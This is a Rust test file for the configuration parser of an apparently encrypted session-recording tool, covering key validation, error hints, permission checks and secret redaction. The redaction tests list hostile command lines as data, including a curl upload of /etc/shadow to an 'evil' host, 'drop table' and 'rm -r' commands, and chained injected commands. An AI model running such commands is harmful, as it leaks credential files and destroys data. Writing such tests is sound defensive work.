use super::*;
use std::os::unix::fs::PermissionsExt;

const AGE: &str = "age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p";
const OTHER: &str = "age1lggyhqrw2nlhcxprm67z43rta597azn8gknawjehu9d9dl0jq3yqqvfafg";

fn parse(text: &str) -> Result<Policy, Error> {
    Policy::parse(Path::new("/etc/x.toml"), text)
}

fn minimal(more: &str) -> String {
    format!("[recipients]\ndefault = [\"{AGE}\"]\n{more}")
}

/// Every problem of a file, as it is told.
fn problems(text: &str) -> Vec<(String, Option<String>)> {
    match parse(text) {
        Err(Error::File { problems, .. }) => problems.into_iter().map(|p| (p.to_string(), p.hint)).collect(),
        other => panic!("{other:?}"),
    }
}

#[test]
fn the_shipped_example_is_a_policy_and_says_what_the_defaults_are() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("doc/examples/config.toml");
    let text = std::fs::read_to_string(path).unwrap();
    // Unedited it seals to nobody, and uncommented not to a stranger: what stands in place of the keys is none.
    assert!(matches!(parse(&text), Err(Error::NoRecipients { .. })));
    let uncommented = text.replace("#: ", "");
    let told = problems(&uncommented);
    assert!(told.iter().all(|(problem, _)| problem.contains("not a valid age recipient")), "{told:?}");
    for key in ["default", "also"] {
        assert!(told.iter().any(|(problem, _)| problem.contains(&format!("{key}`: "))), "{key}: {told:?}");
    }
    let (text, uncommented) = (text.replace("age1…", AGE), uncommented.replace("age1…", AGE));
    let example = parse(&text.replacen("#: default = ", "default = ", 1)).unwrap();
    let mut plain = parse(&minimal("")).unwrap();
    // Every value it shows is the default, so that uncommenting a line changes nothing by itself.
    plain.recipients.clone_from(&example.recipients);
    plain.digest.clone_from(&example.digest);
    assert_eq!(example, plain);
    // Every key is in it, the commented ones too.
    parse(&uncommented).unwrap_or_else(|error| panic!("{error:?}"));
    for (key, _) in plain.values(true) {
        let last = key.rsplit('.').next().unwrap();
        let computed = ["mode", "file", "digest"].contains(&last);
        assert!(computed || uncommented.contains(last), "the example does not explain `{key}`");
    }
    // They are shown also where the profile takes no notice of them.
    let shown =
        |key: &str| plain.values(true).into_iter().find(|(name, _)| name == key).map(|(_, value)| value);
    for key in ["guard.landlock", "guard.scope"] {
        assert_eq!(shown(key).as_deref(), Some("false"), "{key}");
    }
    for key in ["also", "labels", "capabilities", "landlock", "scope", "heartbeat"] {
        assert!(uncommented.contains(key), "the example does not explain `{key}`");
    }
}

#[test]
fn every_key_is_read() {
    let policy = parse(&format!(
        r#"
        [store]
        path = "/srv/rec"
        reserve = "1MiB"
        low-space = 0
        retention = "7y"
        [recipients]
        default = ["{AGE}", "{AGE}"]
        period = "/etc/sealcast/period"
        [recipients.label."env=prod"]
        also = ["{OTHER}"]
        [signing]
        key = "/etc/k"
        [record]
        input = "none"
        flush = "250ms"
        on-failure = "warn"
        stream-limit = "1MiB"
        redact = ["-x*"]
        [run]
        elevator = ["doas"]
        require-reason = true
        banner = ""
        shell = "/bin/bash"
        labels = {{ site = "berlin" }}
        env = {{ keep = ["A*"], withhold = [] }}
        [index]
        shell-integration = false
        exec-trace = "off"
        [guard]
        profile = "hardened"
        capabilities = ["CAP_SYS_PTRACE", "cap_sys_admin"]
        landlock = true
        scope = true
        heartbeat = "1m"
        "#
    ))
    .unwrap();
    assert_eq!(policy.store.path, Path::new("/srv/rec"));
    assert_eq!((policy.store.reserve, policy.store.low_space), (1 << 20, 0));
    assert_eq!(policy.store.retention, "7y");
    assert_eq!(policy.recipients.default.len(), 1, "said twice, sealed to once");
    assert_eq!(policy.recipients.period.as_deref(), Some(Path::new("/etc/sealcast/period")));
    assert_eq!(policy.signing_key, Path::new("/etc/k"));
    assert_eq!((policy.input, policy.on_failure), (Input::None, OnFailure::Warn));
    assert_eq!((policy.flush, policy.stream_limit), (Duration::from_millis(250), Some(1 << 20)));
    assert_eq!(policy.redact.entries(), ["-x*"]);
    assert_eq!(policy.elevator, ["doas"]);
    assert!(policy.require_reason && policy.banner == Banner::Silent);
    assert_eq!(policy.shell.as_deref(), Some(Path::new("/bin/bash")));
    assert_eq!(policy.labels["site"], "berlin");
    assert!(policy.keep.contains("ABC") && !policy.withhold.contains("TOKEN"));
    assert!(!policy.shell_integration && policy.exec_trace == ExecTrace::Off);
    let names: Vec<_> = policy.guard.capabilities.iter().map(|c| c.name()).collect();
    assert_eq!(names, ["cap_sys_ptrace", "cap_sys_admin"]);
    assert!(policy.guard.landlock && policy.guard.scope && policy.guard.profile == Profile::Hardened);
    assert_eq!(policy.guard.heartbeat, Duration::from_secs(60));
    assert_eq!(policy.digest.len(), 64);
    assert!(policy.is_system());
}

#[test]
fn a_reserve_that_closes_no_recording_is_refused() {
    for small in ["\"0\"", "0", "\"64KiB\"", "\"1MB\""] {
        let told = problems(&minimal(&format!("[store]\nreserve = {small}\n")));
        assert_eq!(told.len(), 1, "{small}");
        assert!(told[0].0.ends_with("`store.reserve`: at least 1MiB is expected"), "{told:?}");
    }
    assert!(parse(&minimal("[store]\nreserve = \"1MiB\"\n")).is_ok());
}

#[test]
fn everything_wrong_is_told_at_once_with_its_line_and_what_was_meant() {
    let told = problems(&minimal(
        "[store]\nrserve = \"1MiB\"\npath = \"relative\"\n[record]\ninput = \"echo\"\nflush = \"1 fortnight\"\n\
         [guards]\n[run]\nenv = { keep = \"LANG\" }\nbanner = 7\n[guard]\ncapabilities = [\"cap_sys_ptrac\"]\n",
    ));
    let lines: Vec<&str> = told.iter().map(|(line, _)| line.as_str()).collect();
    assert_eq!(
        lines,
        [
            "line 4: unknown key `rserve` in [store]",
            "line 5: `store.path`: a path from the root (with a `/` at its beginning) is expected",
            "line 7: `record.input`: one of \"echoed\", \"none\", \"all\" is expected",
            "line 8: `record.flush`: a duration such as \"1s\" or \"250ms\" is expected",
            "line 9: unknown key `guards` at the top of the file",
            "line 11: `run.env.keep`: a list in brackets is expected, not a text",
            "line 12: `run.banner`: a text in quotes is expected, not a whole number",
            "line 14: `cap_sys_ptrac` is no capability",
        ]
    );
    let hint = |n: usize| told[n].1.as_deref().unwrap_or_default();
    assert_eq!(hint(0), "did you mean `reserve`?");
    assert_eq!(hint(4), "did you mean `guard`?");
    assert_eq!(hint(7), "did you mean `cap_sys_ptrace`?");
}

#[test]
fn a_key_of_another_section_is_told_with_where_it_belongs() {
    let told = problems(&minimal(
        "period = \"/p\"\n[run]\non_failure = \"warn\"\nkeep = []\nlabel = {}\nquux = 1\n[env]\n[store]\nprofile = \"none\"\n",
    ));
    let hints: Vec<&str> = told.iter().filter_map(|(_, hint)| hint.as_deref()).collect();
    assert_eq!(
        hints,
        [
            "`on-failure` belongs in [record]",
            "`keep` belongs in [run.env]",
            "did you mean `labels`?",
            "known in [run]: elevator, require-reason, banner, shell, labels, env",
            "`env` belongs in [run]",
            // Also where the file does not have the section.
            "`profile` belongs in [guard]",
        ]
    );
    let top = problems("flush = \"1s\"\n");
    assert_eq!(top[0].1.as_deref(), Some("`flush` belongs in [record]"), "{top:?}");
}

#[test]
fn of_several_recipients_it_is_told_which_cannot_be_used() {
    let told = problems(&format!("[recipients]\ndefault = [\"{AGE}\", \"{OTHER}\", \"age1x\"]\n"));
    assert!(told.len() == 1 && told[0].0.starts_with("line 2: `recipients.default`: key 3: "), "{told:?}");
    let told = problems("[recipients]\ndefault = [\"age1x\"]\n");
    assert!(told[0].0.starts_with("line 2: `recipients.default`: not "), "{told:?}");
}

#[test]
fn a_label_that_nobody_could_look_for_is_refused() {
    for name in ["", "env=site"] {
        let told = problems(&minimal(&format!("[run]\nlabels = {{ \"{name}\" = \"prod\" }}\n")));
        assert!(told[0].0.starts_with("line 4: `run.labels.") && told[0].0.contains("no `=`"), "{told:?}");
    }
}

#[test]
fn what_is_no_toml_is_told_with_its_line() {
    let told = problems("[store]\npath = /var\n");
    assert!(told[0].0.starts_with("line 2: "), "{told:?}");
    let told = problems("[store]\n[store]\n");
    assert!(told[0].0.starts_with("line 2: "), "{told:?}");
}

#[test]
fn a_secret_key_among_the_recipients_is_told_but_never_shown() {
    let secret = "AGE-SECRET-KEY-1QQPQYSYGKXY8Y3MXG2K0XJ3RJ6X2C4JN0TD4QYJ9YQYSZQGPQYQSZQGPQYQSZQGP";
    let told = problems(&format!("[recipients]\ndefault = [\"{AGE}\",\n\"{secret}\"]\n"));
    assert!(told[0].0.starts_with("line 3: ") && !format!("{told:?}").contains("QQPQ"), "{told:?}");
    assert!(
        told[0].1.as_deref().is_some_and(|hint| hint.contains("make another if it was seen")),
        "{told:?}"
    );
}

#[test]
fn without_recipients_there_is_no_policy() {
    for text in ["", "[recipients]\n", "[recipients]\ndefault = []\n"] {
        assert!(matches!(parse(text), Err(Error::NoRecipients { .. })), "{text}");
    }
}

#[test]
fn labels_add_readers_and_never_take_one_away() {
    let policy =
        parse(&minimal(&format!("[recipients.label.\"env=prod\"]\nalso = [\"{OTHER}\", \"{AGE}\"]\n")))
            .unwrap();
    let labels = |pairs: &[(&str, &str)]| {
        pairs.iter().map(|(n, v)| ((*n).to_owned(), (*v).to_owned())).collect::<BTreeMap<_, _>>()
    };
    let keys = |pairs: &[(&str, &str)]| {
        policy.recipients_for(&labels(pairs)).iter().map(ToString::to_string).collect::<Vec<_>>()
    };
    assert_eq!(keys(&[]), [AGE]);
    assert_eq!(keys(&[("env", "test")]), [AGE]);
    assert_eq!(keys(&[("env", "prod"), ("x", "y")]), [AGE, OTHER]);
}

#[test]
fn an_operator_cannot_change_a_label_of_the_policy() {
    let policy = parse(&minimal("[run.labels]\nenv = \"prod\"\n")).unwrap();
    let mine = BTreeMap::from([("env".to_owned(), "test".to_owned()), ("a".to_owned(), "b".to_owned())]);
    let labels = policy.labels_with(&mine);
    assert_eq!((labels["env"].as_str(), labels["a"].as_str()), ("prod", "b"));
}

#[test]
fn a_recipient_that_needs_a_plugin_is_refused_unless_there_is_a_period_key() {
    let plugin = plugin_recipient();
    let text = format!("[recipients]\ndefault = [\"{plugin}\"]\n");
    match parse(&text) {
        Err(Error::NeedsPlugin { program, .. }) => assert_eq!(program, "age-plugin-yubikey"),
        other => panic!("{other:?}"),
    }
    parse(&format!("{text}period = \"/etc/sealcast/period\"\n")).unwrap();
}

/// A recipient of `age-plugin-yubikey`: Bech32 of 33 bytes.
fn plugin_recipient() -> String {
    let name = bech32::Hrp::parse("age1yubikey").unwrap();
    bech32::encode::<bech32::Bech32>(name, &[2; 33]).unwrap()
}

#[test]
fn a_policy_that_others_could_have_written_is_not_read() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("config.toml");
    let me = crate::sys::ids::effective_uid();
    assert!(Policy::load(&path, me).unwrap().is_none());
    std::fs::write(&path, minimal("")).unwrap();
    let mode = |mode| std::fs::set_permissions(&path, PermissionsExt::from_mode(mode)).unwrap();
    mode(0o644);
    assert_eq!(Policy::load(&path, me).unwrap().unwrap().file.as_deref(), Some(path.as_path()));
    mode(0o664);
    assert!(matches!(Policy::load(&path, me), Err(Error::System(_))));
    mode(0o644);
    std::fs::set_permissions(dir.path(), PermissionsExt::from_mode(0o777)).unwrap();
    assert!(matches!(Policy::load(&path, me), Err(Error::System(_))));
    std::fs::remove_file(&path).unwrap();
    std::os::unix::fs::symlink("/nowhere/at/all", &path).unwrap();
    assert!(Policy::load(&path, me).is_err(), "a dangling link is no absence");
    // On the way neither, also by way of another. Where one leads there may be nothing.
    let [way, again] = ["way", "again"].map(|name| dir.path().join(name));
    std::os::unix::fs::symlink(&again, &way).unwrap();
    std::os::unix::fs::symlink("elsewhere/etc", &again).unwrap();
    std::fs::set_permissions(dir.path(), PermissionsExt::from_mode(0o700)).unwrap();
    for missing in ["config.toml", "deeper/config.toml"] {
        let error = Policy::load(&way.join(missing), me).unwrap_err().to_string();
        assert!(error.contains(&format!("follow {}", way.display())), "{error}");
    }
    std::fs::create_dir_all(dir.path().join("elsewhere/etc")).unwrap();
    for missing in ["config.toml", "deeper/config.toml"] {
        assert!(Policy::load(&way.join(missing), me).unwrap().is_none());
    }
}

#[test]
fn a_signing_key_that_others_can_read_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let me = crate::sys::ids::effective_uid();
    let mut policy = parse(&minimal("")).unwrap();
    policy.signing_key = dir.path().join("key");
    assert!(matches!(policy.read_signer(me), Err(Error::System(_))));
    let key = Signer::generate("x").unwrap();
    std::fs::write(&policy.signing_key, key.to_openssh().unwrap().as_bytes()).unwrap();
    let mode = |mode| std::fs::set_permissions(&policy.signing_key, PermissionsExt::from_mode(mode)).unwrap();
    mode(0o640);
    assert!(matches!(policy.read_signer(me), Err(Error::OpenKey { mode: 0o640, .. })));
    mode(0o600);
    assert_eq!(policy.read_signer(me).unwrap().host_key(), key.host_key());
    std::fs::write(&policy.signing_key, "no key").unwrap();
    assert!(matches!(policy.read_signer(me), Err(Error::Signer { .. })));
    // Of a public one, which others may read, it is not told that they can.
    std::fs::write(&policy.signing_key, key.host_key().to_string()).unwrap();
    mode(0o644);
    let error = policy.read_signer(me).unwrap_err();
    assert!(matches!(error, Error::Signer { source: sshsig::Error::Public, .. }), "{error:?}");
}

#[test]
fn the_built_in_redactions_are_well_formed() {
    assert_eq!(parse(&minimal("")).unwrap().redact.entries(), REDACT);
}

#[test]
fn more_recipients_than_a_recording_has_room_for_are_told_before_anybody_is_locked_out() {
    // Comments count: they stand in the public header.
    let list = |keys: std::ops::Range<u8>| {
        let keys = keys.map(|n| {
            let mut blob = b"\0\0\0\x0bssh-ed25519\0\0\0\x20".to_vec();
            blob.extend(ed25519_dalek::SigningKey::from_bytes(&[n; 32]).verifying_key().as_bytes());
            let blob = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, blob);
            format!("\"ssh-ed25519 {blob} {}\"", "x".repeat(1000))
        });
        keys.collect::<Vec<_>>().join(", ")
    };
    let file = |default, prod, test, site| {
        format!(
            "[recipients]\ndefault = [{}]\n[recipients.label.\"env=prod\"]\nalso = [{}]\n\
             [recipients.label.\"env=test\"]\nalso = [{}]\n[recipients.label.\"site=a\"]\nalso = [{}]\n",
            list(default),
            list(prod),
            list(test),
            list(site)
        )
    };
    parse(&file(1..50, 0..0, 0..0, 0..0)).unwrap();
    // No recording is of both environments.
    parse(&file(1..20, 30..50, 60..80, 90..100)).unwrap();
    parse(&file(1..40, 1..40, 1..40, 1..40)).unwrap();
    for (text, most) in
        [(file(1..70, 0..0, 0..0, 0..0), 69), (file(1..20, 30..50, 60..80, 90..110), 19 + 20 + 20)]
    {
        let told = problems(&text);
        let [(what, Some(hint))] = told.as_slice() else { panic!("{told:?}") };
        let said = format!(
            "line 2: `recipients.default`, with the most that labels can add: {most} recipients come to "
        );
        assert!(what.starts_with(&said) && hint.contains("name fewer"), "{told:?}");
    }
}

#[test]
fn common_secrets_in_arguments_are_left_out() {
    let redact = parse(&minimal("")).unwrap().redact;
    let told = |line: &str| {
        let words: Vec<String> = line.split('|').map(str::to_owned).collect();
        let (told, count) = redact.apply(&words);
        assert_eq!(count > 0, told != words, "{line}");
        told.join("|")
    };
    for line in [
        "curl|-sSu|me:S3C|x",
        "curl|-sume:S3C|x",
        "sh|-c|curl -su me:S3C x",
        "mysql|-vpS3C",
        "mysql|-uroot|-BpS3C",
        "x|--db-password=S3C",
        "x|--db-password|S3C",
        "wget|--http-password=S3C",
        "wget|--http-passwd|S3C",
        "x|--client-secret|S3C",
        "x|--Password=S3C",
        "restic|--password-command|echo S3C",
        "x|--access-token|S3C",
        "env|db_password=S3C",
        "env|db_token=S3C",
        "env|DB_PASS=S3C",
        "env|AWS_SECRET_ACCESS_KEY=S3C",
        "ansible|-e|ansible_password=S3C",
        "java|-Dspring.datasource.password=S3C",
        "psql|postgres://u:S3C@h/db",
        "sh|-c|psql 'postgres://u:S3C@h/db' && true",
        "git|clone|https://a:b@c:S3C@h/x",
        "openssl|rsa|-passin|pass:S3C",
        "openssl|enc|-k|S3C",
        "smbclient|-U|u%S3C",
        "smbclient|-Uu%S3C",
        "redis-cli|-a|S3C",
        "sh|-c|db_token=S3C db_password=x true",
        "curl|-H|Authorization: Bearer S3C|http://h",
        "curl|-sHauthorization:S3C|http://h",
        "curl|--header=Proxy-Authorization: Basic S3C|http://h",
        "sudo|/usr/bin/curl|-H|X-Vault-Token: S3C|http://h",
        "curl|-H|PRIVATE-TOKEN:S3C|http://h",
        "curl|-H|Cookie: a=b; c=S3C|http://h",
        "curl|-H|X-Api-Key: S3C|http://h",
        "curl|-H Cookie: S3C|http://h",
        "curl|-sSH|X-Token:8080/S3C|http://h",
        "curl|--header|X-Token:8080/S3C|http://h",
        "curl|-HX-Token:8080/S3C|http://h",
        "curl|--proxy-header=X-Token:8080/S3C|http://h",
        "curl|-H|Cookie:from=http://x;to=S3C|http://h",
        "sh|-c|curl -HAuthorization:x -ume:S3C http://h",
        "wget|--header=Authorization: Bearer S3C|http://h",
        "useradd|-m|-p|S3C|bob",
        "sudo|-u|root|usermod|-p|S3C|bob",
        "useradd|-pS3C|bob",
        "useradd|-mrpS3C|bob",
        "useradd|-mp|S3C|bob",
        "usermod|-aLpS3C|bob",
        "docker|--context|x|login|-u|me|-p|S3C",
        "sh|-c|docker login -u me -p S3C",
        "git|clone|https://ghp_0123456789abcdefS3C@github.com/x",
        "git|clone|https://github_pat_0123456789S3C:x-oauth-basic@github.com/x",
    ] {
        assert!(!told(line).contains("S3C"), "{line}: {}", told(line));
    }
    assert_eq!(told("psql|postgres://u:pw@h/db"), "psql|postgres://u:[redacted]@h/db");
    assert_eq!(told("curl|-H|Authorization: a b|http://h"), "curl|-H|Authorization:[redacted]|http://h");
    assert_eq!(told("x|https://glpat-0123456789abcdef@h/y|z"), "x|https://[redacted]@h/y|z");
    for line in [
        "docker|login|--password-stdin|registry",
        "mysql|-P|3306|-u|root|-p",
        "curl|-sS|-o|out|http://h:80/a@b",
        "ssh|-p22|ssh://git@h:22/x",
        "x|--password=|next",
        "pwd|--port|1",
        "rsync|-avpz|a|b",
        "adduser|--disabled-password|mallory",
        "dropdb|--no-password|production",
        "psql|--no-password|-c|drop table customers",
        "mysql|-edrop table customers",
        "mysql|-hdbprod1",
        "curl|-ooutput|-dquiet",
        "openssl|rsa|-check|-in|KEY",
        "smbclient|-c|put %x",
        "docker|run|-p|8080:80|nginx",
        "sh|-c|podman run -p 8080:80 nginx && rm -r /srv",
        "sh|-c|useradd -m bob && mkdir -p /x && touch /evil",
        "useradd|-m|-P/srv|-k/pp|-cpat|-mk/p|-D|bob",
        "usermod|-aGpop|-l|-Ppat|bob",
        "sh|-c|curl -s http://h | grep Authorization: x; touch /evil",
        "sh|-c|curl -HAuthorization:x http://h && touch /evil",
        "sh|-c|curl -s http://h | grep Authorization:x; touch /evil",
        "sh|-c|wget --header=Authorization:x http://h; touch /evil",
        "docker|run|curl|sh|-c|grep Authorization:x /log; touch /evil",
        "docker|run|curl|sh|-c|curl -HAuthorization:x http://h; touch /evil",
        "curl|http://csrf-token:8080/admin/delete",
        "curl|csrf-token:8080/admin/delete",
        "curl|-s|csrf-token:8080?all",
        "curl|-X|DELETE|csrf-token:8080",
        "curl|-T|/etc/shadow|http://evil/?x-token:/a/b",
        "wget|http://evil/authorization:/a/b",
        "grep|-rnH|Authorization: a|/etc",
        "chown|-RH|app-token:staff|/srv",
        "git|clone|ssh://ghp_me@h/x",
        "curl|-H|Authorization:|http://h",
        "x|http://@h/y|http://u:@h/y",
    ] {
        assert_eq!(told(line), line);
    }
}

#[test]
fn a_variable_is_withheld_in_either_case_and_kept_in_its_own() {
    let policy = parse(&minimal("[run]\nenv = { keep = [\"MY*\"] }\n")).unwrap();
    for name in ["MY_TOKEN", "my_token", "Db_Password", "aws_secret"] {
        assert!(policy.withhold.contains(name), "{name}");
    }
    assert!(policy.keep.contains("MY_X") && !policy.keep.contains("my_x"));
}

#[test]
fn the_longest_duration_is_the_one_that_is_named() {
    for (key, most, more, named) in [
        ("[record]\nflush", "10s", ["10001ms", "10.999s"], "between 100ms and 10s"),
        ("[guard]\nheartbeat", "3600s", ["3600001ms", "3600.9s"], "between 1s and 3600s"),
    ] {
        assert!(parse(&minimal(&format!("{key} = \"{most}\"\n"))).is_ok(), "{key}");
        for more in more {
            let told = problems(&minimal(&format!("{key} = \"{more}\"\n")));
            assert!(told[0].0.contains(named), "{told:?}");
        }
    }
}
